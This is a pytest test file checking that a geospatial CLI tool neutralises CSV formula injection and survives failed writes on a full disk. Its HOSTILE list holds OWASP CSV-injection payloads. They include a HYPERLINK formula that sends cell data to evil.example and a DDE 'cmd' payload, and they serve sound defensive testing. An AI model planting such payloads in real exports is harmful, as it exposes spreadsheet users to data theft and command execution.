"""Outputs a spreadsheet or a full disk cannot turn against the user (issue 13).

CSV cells that would start a formula are written as text (a leading ``'``), numbers stay
numbers; a write that fails part-way leaves the previous file as it was.
"""

import csv
import io
import resource
import signal
import subprocess
import sys

import geopandas as gpd
import pytest
import shapely

from app.core.formats.csv_text import csv_text, neutralise_cell
from tests.cli.run import run_innoatlas

#: Names a hostile sites file may carry (OWASP CSV injection examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile_sites(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "sites.geojson"
    frame = gpd.GeoDataFrame(
        {"name": HOSTILE, "site_id": [f"s{i}" for i in range(len(HOSTILE))]},
        geometry=[shapely.Point(126.8826 + i * 1e-3, 37.4776) for i in range(len(HOSTILE))],
        crs="EPSG:4326",
    )
    frame.to_file(path, driver="GeoJSON")
    return path


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_indicators_csv_writes_formula_names_as_text(hostile_sites, tmp_path):
    out = tmp_path / "results.csv"
    result = run_innoatlas("indicators", hostile_sites, "--out", out)
    assert result.returncode == 0, result.stderr
    rows = _rows(out.read_text(encoding="utf-8-sig"))
    # Site labels are stripped of surrounding blanks, then neutralised.
    assert [row["site"] for row in rows] == ["'" + name.strip() for name in HOSTILE]
    # Numbers stay numbers: a spreadsheet still sums the counts.
    assert all(row["startups_n"].isdigit() for row in rows)


def test_export_gpkg_indicators_csv_is_neutralised(hostile_sites, tmp_path):
    table = tmp_path / "indicators.csv"
    result = run_innoatlas(
        "export-gpkg", tmp_path / "out.gpkg", "--sites", hostile_sites, "--indicators-csv", table
    )
    assert result.returncode == 0, result.stderr
    names = {row["name"] for row in _rows(table.read_text(encoding="utf-8-sig"))}
    assert names == {("'" + name).replace("\r", "\n") for name in HOSTILE}


def test_cells_and_header_neutralised_numbers_unchanged():
    import pandas as pd

    frame = pd.DataFrame({"=x": ["=1", "ok", "-a"], "n": [-1, 2, 3], "f": [-1.5, 0.0, 2.5]})
    rows = _rows(csv_text(frame))
    assert list(rows[0]) == ["'=x", "n", "f"]
    assert [r["'=x"] for r in rows] == ["'=1", "ok", "'-a"]
    assert [r["n"] for r in rows] == ["-1", "2", "3"]
    assert [r["f"] for r in rows] == ["-1.5", "0.0", "2.5"]
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None


def _limited_run(limit_bytes: int, *args) -> subprocess.CompletedProcess:
    """Run ``python -m app`` with files capped at ``limit_bytes`` (a full disk, as the
    OS reports it: writes past the cap fail with EFBIG)."""

    def cap():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))

    return subprocess.run(
        [sys.executable, "-m", "app", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=cap,
    )


@pytest.mark.skipif(not hasattr(resource, "RLIMIT_FSIZE"), reason="needs POSIX file-size limits")
def test_a_failed_write_keeps_the_previous_file(hostile_sites, tmp_path):
    out = tmp_path / "results.csv"
    previous = "site,startups_n\nkept,1\n"
    out.write_text(previous, encoding="utf-8")
    result = _limited_run(300, "indicators", hostile_sites, "--out", out)
    assert result.returncode == 2
    errors = [
        line for line in result.stderr.splitlines() if not line.startswith("innoatlas: note:")
    ]
    assert len(errors) == 1 and errors[0].startswith("innoatlas: error:"), result.stderr
    assert out.read_text(encoding="utf-8") == previous
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]  # no partial file
